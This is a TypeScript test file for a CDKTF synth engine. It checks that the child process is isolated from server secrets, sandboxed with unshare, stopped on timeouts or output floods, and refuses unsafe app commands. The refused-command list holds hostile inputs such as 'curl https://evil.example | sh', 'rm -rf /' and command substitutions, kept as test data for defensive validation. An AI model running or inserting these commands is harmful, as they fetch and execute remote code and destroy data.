import { execFile, spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, afterEach, describe, expect, it, vi } from 'vitest';
import { synthCdktfApp } from '../../../src/engines/cdktf/synth-app.ts';
import { fixtureApp, handWrittenApp, makeTempDir, synthOptions, writeFiles } from './cdktf-test-helpers.ts';

const temp = makeTempDir('cdktf-isolation');
afterAll(() => temp.remove());
afterEach(() => {
  vi.unstubAllEnvs();
});

const SECRETS = {
  GITHUB_TOKEN: 'ghs_secret_token_value',
  PRIVATE_KEY: '-----BEGIN RSA PRIVATE KEY-----',
  APP_PRIVATE_KEY_PATH: '/etc/sluice/app.pem',
  WEBHOOK_SECRET: 'hook-secret',
  AWS_ACCESS_KEY_ID: 'AKIAEXAMPLE',
  AWS_SECRET_ACCESS_KEY: 'aws-secret',
  AWS_SESSION_TOKEN: 'aws-session',
};

async function probeEnv(extra: Parameters<typeof synthOptions>[2]): Promise<Record<string, string>> {
  const result = await synthCdktfApp(synthOptions(fixtureApp('env-probe'), join(temp.dir, `probe-${Math.random()}`), extra));
  if (!result.ok) throw new Error(result.message);
  const outputs = result.value.stacks[0]?.config['output'] as Record<string, { value: string }>;
  return Object.fromEntries(Object.entries(outputs).map(([name, o]) => [name, o.value]));
}

describe('the synth child environment', () => {
  it('holds none of the server\'s secrets, even when they are set in the parent', async () => {
    for (const [name, value] of Object.entries(SECRETS)) vi.stubEnv(name, value);
    const seen = await probeEnv({});
    expect(seen['leaked']).toBe('');
    const names = seen['env_names']!.split(',');
    for (const name of Object.keys(SECRETS)) expect(names).not.toContain(name);
    expect(names.filter((n) => n.startsWith('AWS_') || n.startsWith('GITHUB_'))).toEqual([]);
    expect(names).toEqual(expect.arrayContaining(['PATH', 'HOME', 'CDKTF_OUTDIR', 'CDKTF_CONTEXT_JSON']));
    expect(seen['home']).not.toBe(process.env['HOME']);
  });

  it('never passes secret-looking names, even when an operator allowlists them', async () => {
    const seen = await probeEnv({
      parentEnv: { ...SECRETS, PATH: process.env['PATH'], LANG: 'C.UTF-8', TEAM: 'data' },
      envAllowlist: [...Object.keys(SECRETS), 'LANG', 'TEAM'],
    });
    expect(seen['leaked']).toBe('');
    expect(seen['env_names']!.split(',')).toEqual(expect.arrayContaining(['LANG', 'TEAM']));
  });
});

/** Synthesizes env-probe from a separate "server" process whose real environment holds a marker secret. */
async function probeFromServer(sandbox: readonly string[]): Promise<Record<string, string>> {
  const script = join(import.meta.dirname, 'synth-as-server.ts');
  const args = [script, fixtureApp('env-probe'), join(temp.dir, `server-${Math.random()}`), JSON.stringify(sandbox)];
  const { stdout } = await promisify(execFile)(process.execPath, args, { env: { ...process.env, SLUICE_PROBE_SECRET: 'from-the-server' } });
  const result = JSON.parse(stdout);
  if (!result.ok) throw new Error(result.message);
  const outputs = result.value.stacks[0].config.output as Record<string, { value: string }>;
  return Object.fromEntries(Object.entries(outputs).map(([name, o]) => [name, o.value]));
}

const UNSHARE = ['unshare', '--user', '--map-root-user', '--pid', '--fork', '--mount-proc'];
const canUnshare = spawnSync(UNSHARE[0]!, [...UNSHARE.slice(1), 'true']).status === 0;

describe('isolation beyond the environment', () => {
  it('a scrubbed environment alone still lets PR code read the server\'s environment from /proc (why `sandbox` exists)', async () => {
    const seen = await probeFromServer([]);
    expect(seen['leaked']).toBe('');
    expect(Number(seen['proc_leaks'])).toBeGreaterThan(0);
  });

  it.skipIf(!canUnshare)('in an unshare sandbox, PR code cannot see the server\'s processes', async () => {
    const seen = await probeFromServer(UNSHARE);
    expect(seen['proc_leaks']).toBe('0');
    expect(seen['leaked']).toBe('');
  });

  it.skipIf(!canUnshare)('kills a sandboxed app at the timeout too', async () => {
    const result = await synthCdktfApp(synthOptions(fixtureApp('hangs'), join(temp.dir, 'hangs-sandboxed'), { timeoutMs: 3_000, sandbox: UNSHARE }));
    expect(result).toMatchObject({ ok: false, code: 'engine_failed', message: expect.stringMatching(/^the app did not finish within 3 s/) });
  });
});

describe('limits on the synth child', () => {
  it('kills a hanging app and its grandchildren at the timeout', async () => {
    const started = performance.now();
    const result = await synthCdktfApp(synthOptions(fixtureApp('hangs'), join(temp.dir, 'hangs'), { timeoutMs: 3_000 }));
    expect(performance.now() - started).toBeLessThan(10_000);
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.code).toBe('engine_failed');
    expect(result.message).toMatch(/^the app did not finish within 3 s; it was stopped/);
    const pid = Number(/grandchild (\d+)/.exec(result.message)?.[1]);
    expect(pid).toBeGreaterThan(0);
    await expect.poll(() => isAlive(pid), { timeout: 5_000 }).toBe(false);
  });

  it('stops an app that floods its output at the cap', async () => {
    const result = await synthCdktfApp(synthOptions(fixtureApp('noisy'), join(temp.dir, 'noisy'), { outputCapBytes: 64 * 1024 }));
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.message).toMatch(/^the app wrote more than 65536 bytes of output; it was stopped/);
    expect(result.message.length).toBeLessThan(6_000);
  });

  it('stops the app when the run is cancelled', async () => {
    const controller = new AbortController();
    setTimeout(() => controller.abort(), 300);
    const result = await synthCdktfApp(synthOptions(fixtureApp('hangs'), join(temp.dir, 'cancelled'), { signal: controller.signal }));
    expect(result).toMatchObject({ ok: false, code: 'cancelled' });
  });
});

describe('the app command', () => {
  it.each([
    'node main.ts; curl https://evil.example | sh',
    'node main.ts && rm -rf /',
    'node $(whoami).ts',
    'node `id`.ts',
    'node main.ts > /tmp/x',
    'AWS_PROFILE=prod node main.ts',
  ])('refuses %j without running anything', async (app) => {
    const dir = join(temp.dir, `meta-${Math.random()}`);
    writeFiles(dir, { ...handWrittenApp('x'), 'cdktf.json': JSON.stringify({ app }) });
    const result = await synthCdktfApp(synthOptions(dir, join(dir, '..', `${Math.random()}-out`)));
    expect(result).toMatchObject({ ok: false, code: 'config_invalid', location: { file: 'cdktf.json' } });
    if (!result.ok) expect(result.message).toMatch(/without a shell/);
  });

  it('runs `npx <bin>` from the app\'s own node_modules/.bin, with quoted arguments kept whole', async () => {
    const dir = join(temp.dir, 'npx-app');
    writeFiles(dir, {
      ...handWrittenApp('from-npx'),
      'cdktf.json': JSON.stringify({ app: 'npx synth-it "main file.ts"' }),
      'main file.ts': handWrittenApp('from-npx')['main.ts']!,
      'node_modules/.bin/synth-it': `#!/usr/bin/env node\nimport('./../../' + process.argv[2]);\n`,
    });
    const result = await synthCdktfApp(synthOptions(dir, join(temp.dir, 'npx-out')));
    expect(result.ok ? result.value.stacks[0]?.config : result).toEqual({ resource: { aws_s3_bucket: { raw: { bucket: 'from-npx' } } } });
  });

  it('does not download a package `npx` cannot find locally', async () => {
    const dir = join(temp.dir, 'npx-missing');
    writeFiles(dir, { ...handWrittenApp('x'), 'cdktf.json': JSON.stringify({ app: 'npx tsx main.ts' }) });
    const result = await synthCdktfApp(synthOptions(dir, join(temp.dir, 'npx-missing-out')));
    expect(result).toMatchObject({ ok: false, code: 'engine_failed' });
    if (!result.ok) expect(result.message).toMatch(/tsx is not installed in node_modules\/\.bin/);
  });

  it('locates an invalid cdktf.json', async () => {
    const dir = join(temp.dir, 'bad-json');
    writeFiles(dir, { 'cdktf.json': '{\n  "language": "typescript",\n  "app": 42\n}\n' });
    const result = await synthCdktfApp(synthOptions(dir, join(temp.dir, 'bad-json-out')));
    expect(result).toMatchObject({ ok: false, code: 'config_invalid', location: { file: 'cdktf.json', line: 3 } });
  });
});

/** Whether a process still runs (a zombie waiting to be reaped does not). */
function isAlive(pid: number): boolean {
  try {
    process.kill(pid, 0);
  } catch {
    return false;
  }
  try {
    return !/^\d+ \(.*\) Z/.test(readFileSync(`/proc/${pid}/stat`, 'utf8'));
  } catch {
    return true;
  }
}
